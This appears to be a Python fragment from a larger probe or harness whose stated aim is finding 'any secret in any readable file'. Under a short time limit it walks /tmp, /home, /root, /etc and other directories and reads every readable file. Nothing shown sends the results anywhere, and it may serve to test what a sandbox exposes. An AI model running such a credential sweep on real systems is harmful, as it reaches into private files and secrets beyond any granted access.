# Wants: any secret in any readable file
ends_at = time.monotonic() + 4
# Where secrets would be first, then whatever else there is; not the kernel's own files, nor the system's many.
first = ["/tmp", "/var/tmp", "/dev/shm", "/home", "/root", "/srv", "/mnt", "/opt", "/run", "/etc", "/var"]
left_out = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot"}
for top in first + sorted({"/" + name for name in os.listdir("/")} - left_out - set(first)):
    for path, folders, names in os.walk(top):
        for name in names:
            place = os.path.join(path, name)
            if time.monotonic() < ends_at and attempt(os.path.isfile, place) is True:
                read(place)
